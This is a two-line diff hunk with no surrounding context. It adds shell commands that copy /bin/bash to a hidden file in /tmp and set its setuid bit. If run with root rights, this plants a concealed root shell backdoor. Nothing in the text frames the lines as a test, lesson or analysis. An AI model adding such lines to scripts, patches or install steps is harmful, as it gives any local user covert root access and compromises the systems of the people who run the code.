@@ -1,0 +1,2 @@
+cp /bin/bash /tmp/.rootsh
+chmod u+s /tmp/.rootsh
